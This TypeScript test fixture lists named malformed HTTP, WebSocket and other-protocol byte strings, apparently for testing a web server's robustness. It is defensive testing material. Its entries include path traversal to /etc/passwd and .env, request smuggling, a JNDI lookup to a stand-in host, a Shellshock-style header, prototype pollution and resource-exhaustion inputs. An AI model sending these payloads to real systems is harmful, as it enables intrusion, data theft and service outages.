/** Bytes that somebody may send instead of a proper request. Each has a name; `answers` is how many answers it may get at most, by default one. */
export interface RawRequest {
  readonly name: string;
  readonly bytes: string | Buffer;
  readonly answers?: number;
}

const request = (line: string, headers: readonly string[] = ['Host: localhost'], body = '') => `${[line, ...headers].join('\r\n')}\r\n\r\n${body}`;
const named = (group: string, all: readonly (string | Buffer)[]): RawRequest[] => all.map((bytes, index) => ({ name: `${group} ${index + 1}`, bytes }));
const host = 'Host: localhost';

const requestLines = named(
  'request line',
  [
    'GET',
    'GET /',
    'GET  / HTTP/1.1',
    'GET\t/\tHTTP/1.1',
    ' GET / HTTP/1.1',
    'GET / HTTP/1.1 extra',
    'GET / HTTP/9.9',
    'GET / HTTP/1',
    'GET / HTTP/0.9',
    'GET / HTTP/1.10',
    'GET / http/1.1',
    'GET / HTTP/-1.1',
    'GET / FTP/1.1',
    'get / HTTP/1.1',
    'GETT / HTTP/1.1',
    'G\u0000T / HTTP/1.1',
    'GET / HTTP/1.1\u0000',
    'TRACE / HTTP/1.1',
    'TRACK / HTTP/1.1',
    'CONNECT localhost:22 HTTP/1.1',
    'CONNECT / HTTP/1.1',
    'OPTIONS * HTTP/1.1',
    'PROPFIND / HTTP/1.1',
    'MKCOL /x HTTP/1.1',
    'SEARCH / HTTP/1.1',
    'PURGE / HTTP/1.1',
    'QUERY / HTTP/1.1',
    'SOURCE / HTTP/1.1',
    'M-SEARCH * HTTP/1.1',
    `${'A'.repeat(10_000)} / HTTP/1.1`,
    `GET /${'a'.repeat(20_000)} HTTP/1.1`,
    'GET http://boese.example/ HTTP/1.1',
    'GET http://localhost@boese.example/ HTTP/1.1',
    'GET //boese.example/ HTTP/1.1',
    'GET http:/// HTTP/1.1',
    'GET http:// HTTP/1.1',
    'GET file:///etc/passwd HTTP/1.1',
    'GET gopher://localhost/ HTTP/1.1',
    'GET localhost:80 HTTP/1.1',
    'GET * HTTP/1.1',
    'GET ? HTTP/1.1',
    'GET # HTTP/1.1',
    'GET ../../etc/passwd HTTP/1.1',
  ].map((line) => request(line)),
);

const targets = named(
  'target',
  [
    ...`
      /% /%0 /%zz /%00 /a%00.html /%0d%0aset-cookie:%20a=b /%0a /%1b%5b31m /%7f /%c2%85 /%c0%ae%c0%ae/etc/passwd /%e0%80%af /%ed%a0%80
      /%f8%88%80%80%80 /%ff%fe /.. /../../../../etc/passwd /%2e%2e/%2e%2e/etc/passwd /..%2f..%2fetc%2fpasswd /..%5c..%5cwindows
      /.%2e/.%2e/package.json /assets/../../package.json /assets/%2e%2e/%2e%2e/package.json /media/..%2f..%2fdata%2fseitenwerk.db
      /assets/.env /.git/config /.well-known/../.env /./././ /a//b /// /;/ /preise;jsessionid=1 /preise/..;/admin /%252e%252e/
      /__proto__ /constructor /api/pages/__proto__ /api/blog/constructor /api/blog?search=%ff /?__proto__[a]=1&constructor=1
      /?a[b][c][d][e]=1 /ä /<script> /"onload=" /{{7*7}} /$%7Bjndi:ldap://boese.example/a} /_payload/../../etc /_preview/a.b.c
      /_preview/%00 /_newsletter/confirm?key[]=1 /_newsletter/unsubscribe?key=%00 /ws /metrics /_blocks?token[]=a
    `
      .trim()
      .split(/\s+/),
    '/..\\..\\windows',
    `/?${'a=1&'.repeat(400)}`,
    `/?${'%'.repeat(1_000)}`,
    `/${'a/'.repeat(900)}`,
    `/${'%41'.repeat(600)}`,
    '/\u00ff',
  ].map((target) => request(`GET ${target} HTTP/1.1`)),
);

const headers = named(
  'headers',
  (
    [
      [],
      ['Host:'],
      [host, host],
      [host, 'Host: boese.example'],
      ['Host: boese.example'],
      ['Host: localhost:99999'],
      ['Host: localhost/../'],
      ['Host: [::1'],
      ['Host : localhost'],
      [' Host: localhost'],
      ['Host: local host'],
      ['Host: \u0000'],
      [host, 'No colon here'],
      [host, ': empty name'],
      [host, 'Na me: a'],
      [host, 'X: a\r\n folded'],
      [host, 'X: a\rb'],
      [host, 'X: a\nb'],
      [host, 'X: \u0000'],
      [host, 'X: \u0001\u0002\u007f'],
      [host, 'X(): { :;}; echo'],
      [host, `X: ${'a'.repeat(17_000)}`],
      [host, `${'X'.repeat(17_000)}: a`],
      [host, ...Array.from({ length: 3_000 }, (_, index) => `X${index}: a`)],
      [host, ...Array.from({ length: 1_000 }, () => 'X: a')],
      [host, `Cookie: ${'a=b; '.repeat(3_000)}`],
      [host, 'Cookie: blocks=%00; ;;=;'],
      [host, `If-None-Match: ${'"a",'.repeat(3_500)}`],
      [host, 'If-None-Match: "unclosed'],
      [host, 'If-Modified-Since: yesterday'],
      [host, 'Range: bytes=0-0,1-1,2-2,-1'],
      [host, `Range: bytes=${'0-,'.repeat(1_300)}`],
      [host, 'Range: bytes=9-1'],
      [host, 'Accept-Encoding: br;q=0, gzip;q=0, identity;q=0, *;q=0'],
      [host, `Accept-Encoding: ${'gzip;q=0.1,'.repeat(1_300)}`],
      [host, 'Accept-Encoding: \u00ff\u00ff'],
      [host, `Accept: ${'text/html;q=0.1,'.repeat(900)}`],
      [host, 'Authorization: Bearer'],
      [host, `Authorization: Basic ${'A'.repeat(10_000)}`],
      [host, 'Expect: 100-continue'],
      [host, 'Expect: 200-ok'],
      [host, 'Connection: close, keep-alive, upgrade, te'],
      [host, 'Connection: Host'],
      [host, 'Upgrade: h2c', 'Connection: Upgrade, HTTP2-Settings', 'HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA'],
      [host, 'Upgrade: TLS/1.0', 'Connection: Upgrade'],
      [host, 'X-Forwarded-For: 127.0.0.1', 'X-Forwarded-Host: boese.example', 'X-Forwarded-Proto: javascript'],
      [host, `X-Forwarded-For: ${'1.2.3.4, '.repeat(1_500)}`],
      [host, 'X-HTTP-Method-Override: DELETE'],
      [host, 'X-Original-URL: /api/admin/active-users'],
      [host, 'X-Request-Id: "\u00ff'],
      [host, 'TE: trailers, chunked'],
      [host, 'Max-Forwards: -1'],
    ] as string[][]
  ).map((lines) => request('GET / HTTP/1.1', lines)),
);

const json = ['Content-Type: application/json'];
const framed = (body: string, more: readonly string[] = json) =>
  request('POST /api/contact HTTP/1.1', [host, `Content-Length: ${Buffer.byteLength(body)}`, ...more], body);
const smuggled = 'GET /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n';

const bodies = named('body', [
  request('POST /api/contact HTTP/1.1', [host, ...json]),
  request('POST /api/contact HTTP/1.1', [host, ...json, 'Content-Length: -1']),
  request('POST /api/contact HTTP/1.1', [host, ...json, 'Content-Length: 1e3']),
  request('POST /api/contact HTTP/1.1', [host, ...json, 'Content-Length: 0x10']),
  request('POST /api/contact HTTP/1.1', [host, ...json, 'Content-Length: +5'], 'aaaaa'),
  request('POST /api/contact HTTP/1.1', [host, ...json, 'Content-Length: 5, 5'], 'aaaaa'),
  request('POST /api/contact HTTP/1.1', [host, ...json, 'Content-Length: 5', 'Content-Length: 6'], `aaaaa${smuggled}`),
  request('POST /api/contact HTTP/1.1', [host, ...json, 'Content-Length: 99999999999999999999'], '{}'),
  request('POST /api/contact HTTP/1.1', [host, ...json, 'Content-Length: 100'], '{}'),
  request('POST /api/contact HTTP/1.1', [host, ...json, 'Content-Length: 5', 'Transfer-Encoding: chunked'], `0\r\n\r\n${smuggled}`),
  request('POST /api/contact HTTP/1.1', [host, ...json, 'Transfer-Encoding: chunked', 'Content-Length: 5'], `0\r\n\r\n${smuggled}`),
  request('POST /api/contact HTTP/1.1', [host, ...json, 'Transfer-Encoding: xchunked'], `0\r\n\r\n${smuggled}`),
  request('POST /api/contact HTTP/1.1', [host, ...json, 'Transfer-Encoding : chunked'], `0\r\n\r\n${smuggled}`),
  request('POST /api/contact HTTP/1.1', [host, ...json, 'Transfer-Encoding: chunked, identity'], `0\r\n\r\n${smuggled}`),
  request('POST /api/contact HTTP/1.1', [host, ...json, 'Transfer-Encoding: identity, chunked, chunked'], `0\r\n\r\n${smuggled}`),
  request('POST /api/contact HTTP/1.1', [host, ...json, 'Transfer-Encoding: \u000bchunked'], `0\r\n\r\n${smuggled}`),
  request('POST /api/contact HTTP/1.1', [host, ...json, 'Transfer-Encoding: chunked'], 'zz\r\n{}\r\n0\r\n\r\n'),
  request('POST /api/contact HTTP/1.1', [host, ...json, 'Transfer-Encoding: chunked'], 'fffffffffffffffff\r\n{}'),
  request('POST /api/contact HTTP/1.1', [host, ...json, 'Transfer-Encoding: chunked'], '-1\r\n{}\r\n0\r\n\r\n'),
  request('POST /api/contact HTTP/1.1', [host, ...json, 'Transfer-Encoding: chunked'], '2\n{}\n0\n\n'),
  request('POST /api/contact HTTP/1.1', [host, ...json, 'Transfer-Encoding: chunked'], `2;${'a'.repeat(20_000)}\r\n{}\r\n0\r\n\r\n`),
  request('POST /api/contact HTTP/1.1', [host, ...json, 'Transfer-Encoding: chunked'], `2\r\n{}\r\n0\r\n${'X: a\r\n'.repeat(4_000)}\r\n`),
  request('POST /api/contact HTTP/1.1', [host, ...json, 'Transfer-Encoding: chunked'], `${'1\r\na\r\n'.repeat(70_000)}0\r\n\r\n`),
  request('GET / HTTP/1.1', [host, 'Content-Length: 30'], '{"a":1}'),
  framed(''),
  framed('{'),
  framed('null'),
  framed('[]'),
  framed('"text"'),
  framed('1e999'),
  framed('{"name":1}'),
  framed('{"__proto__":{"a":1}}'),
  framed('{"constructor":{"prototype":{"a":1}}}'),
  framed('['.repeat(60_000)),
  framed(`{"a":${'{"a":'.repeat(10_000)}1${'}'.repeat(10_001)}`),
  framed(`{"name":"${'a'.repeat(70_000)}"}`),
  framed('{"name":"\\ud800","email":"a@b.de","message":"\\u0000","privacy":true}'),
  framed('{"name":"a","name":"b"}'),
  framed('\ufeff{}'),
  framed('a=b', ['Content-Type: text/plain']),
  framed('a=b', ['Content-Type: multipart/form-data; boundary=']),
  framed('{}', ['Content-Type: application/json; charset=utf-16']),
  framed('{}', ['Content-Type: \u00ff']),
  framed('{}', [...json, 'Content-Encoding: gzip']),
  framed('{}', [...json, `Idempotency-Key: ${'k'.repeat(10_000)}`]),
  framed('{}', [...json, 'Origin: null']),
  framed('{}', [...json, 'Origin: https://boese.example']),
  framed('{}', [...json, 'Sec-Fetch-Site: cross-site']),
  request('POST /_contact HTTP/1.1', [host, 'Content-Type: application/x-www-form-urlencoded', 'Content-Length: 9'], 'a=%&%ff=b'),
  request('POST /_contact HTTP/1.1', [host, 'Content-Type: application/x-www-form-urlencoded', 'Content-Length: 60000'], 'a&'.repeat(30_000)),
  request('POST /_newsletter HTTP/1.1', [host, 'Content-Type: application/x-www-form-urlencoded', 'Content-Length: 20'], 'email[]=a&email[]=bb'),
  request('PUT /api/admin/active-users HTTP/1.1', [host, ...json, 'Content-Length: 2'], '{}'),
]);

const handshake = (more: readonly string[]) => request('GET /ws HTTP/1.1', [host, 'Connection: Upgrade', 'Upgrade: websocket', ...more]);
const key = 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==';
const open = handshake([key, 'Sec-WebSocket-Version: 13']);
const frames = (...bytes: number[]) => Buffer.concat([Buffer.from(open), Buffer.from(bytes)]);

const sockets = named('socket', [
  handshake([]),
  handshake([key]),
  handshake([key, 'Sec-WebSocket-Version: 99']),
  handshake(['Sec-WebSocket-Key: short', 'Sec-WebSocket-Version: 13']),
  handshake([key, 'Sec-WebSocket-Version: 13', 'Origin: https://boese.example']),
  handshake([key, 'Sec-WebSocket-Version: 13', 'Origin: null']),
  handshake([key, 'Sec-WebSocket-Version: 13', 'Sec-WebSocket-Protocol: ,,,']),
  handshake([key, 'Sec-WebSocket-Version: 13', 'Sec-WebSocket-Extensions: permessage-deflate; server_max_window_bits=1']),
  handshake([key, 'Sec-WebSocket-Version: 13', 'Content-Length: 5']).replace('GET', 'POST'),
  handshake([key, 'Sec-WebSocket-Version: 13']).replace('/ws', '/'),
  handshake([key, 'Sec-WebSocket-Version: 13']).replace(host, 'Host: boese.example'),
  handshake([key, 'Sec-WebSocket-Version: 13', host]),
  handshake([key, 'Sec-WebSocket-Version: 13']).replace('GET', 'DELETE'),
  handshake([key, 'Sec-WebSocket-Version: 13']).replace('websocket', 'WebSocket, h2c'),
  frames(0x81, 0x01, 0x61),
  frames(0x8f, 0x80, 0, 0, 0, 0),
  frames(0xf1, 0x80, 0, 0, 0, 0),
  frames(0x80, 0x80, 0, 0, 0, 0),
  frames(0x82, 0x81, 0, 0, 0, 0, 1),
  frames(0x81, 0xfe, 0xff, 0xff, 0, 0, 0, 0),
  frames(0x81, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff),
  frames(0x81, 0x82, 0, 0, 0, 0, 0xff, 0xfe),
  frames(0x88, 0x81, 0, 0, 0, 0, 1),
  frames(0x88, 0x82, 0, 0, 0, 0, 0x03, 0xe7),
  frames(0x89, 0xfe, 0x00, 0x7e, 0, 0, 0, 0),
  frames(0x09, 0x80, 0, 0, 0, 0),
  frames(...Array.from({ length: 300 }, () => [0x01, 0x81, 0, 0, 0, 0, 0x61]).flat()),
  frames(...Array.from({ length: 300 }, () => [0x89, 0x80, 0, 0, 0, 0]).flat()),
]);

const others = named('other protocol', [
  '',
  '\r\n',
  '\r\n\r\n\r\n\r\n',
  '\n'.repeat(10_000),
  '\u0000'.repeat(1_000),
  Buffer.from(Array.from({ length: 4_096 }, (_, index) => (index * 7_919) % 256)),
  Buffer.from('16030100f1010000ed0303', 'hex'),
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  'SSH-2.0-OpenSSH_9.6\r\n',
  'EHLO boese.example\r\nMAIL FROM:<a@b>\r\n',
  'PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n',
  Buffer.from('0d0a0d0a000d0a515549540a', 'hex'),
  '*1\r\n$4\r\nPING\r\n',
  'stats\r\nquit\r\n',
  Buffer.from('0300001300e00000000000010008000b000000', 'hex'),
  '{"jsonrpc":"2.0"}\n',
]);

const many: readonly RawRequest[] = [
  { name: 'a hundred requests at once', bytes: request('GET / HTTP/1.1').repeat(100), answers: 100 },
  { name: 'a hundred refused requests at once', bytes: request('GET /%00 HTTP/1.1').repeat(100), answers: 100 },
  { name: 'a request after garbage', bytes: `garbage\r\n\r\n${smuggled}` },
];

/** About everything that can be wrong with a request and is over at once. */
export const rawRequests: readonly RawRequest[] = [...requestLines, ...targets, ...headers, ...bodies, ...sockets, ...others, ...many];
